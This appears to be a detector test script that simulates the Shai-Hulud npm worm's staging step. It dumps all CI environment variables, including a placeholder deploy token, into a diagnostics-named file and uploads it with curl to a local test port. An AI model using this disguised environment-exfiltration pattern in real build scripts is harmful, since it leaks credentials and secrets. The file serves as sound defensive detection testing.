#!/bin/bash
# technique: T1552.001 Unsecured Credentials: Credentials In Files (CI secrets in the environment); T1074.001 Data Staged: Local Data Staging; T1041 Exfiltration Over C2 Channel
# reproduces: the staging step of Shai-Hulud (npm, 2025), which wrote the stolen secrets, the environment among them, to a data.json before uploading it; here the environment is staged in a file under a debug-looking name, then posted as a form upload by a separate command
# expect: environment-sent-to-network ^curl$
# exec-borne: no
#
# No pipe from the dump to the upload and no $(...): the file between
# them is the only link, and the upload names it relative to the cwd.
set -u

export CI_DEPLOY_TOKEN="ghp_buildwardenAttackTest0000000000000000"

stage=$(mktemp -d "${BW_ATTACK_TMP:?}/diag-XXXXXX")
trap 'rm -rf "$stage"' EXIT

collect_diagnostics() {
	printenv | sort >"$stage/build-env.txt"
}

upload_diagnostics() {
	(cd "$stage" && curl -s -o /dev/null --connect-timeout 5 \
		-F "diag=@build-env.txt" "http://127.0.0.1:${BW_ATTACK_PORT:?}/diag")
}

collect_diagnostics
upload_diagnostics
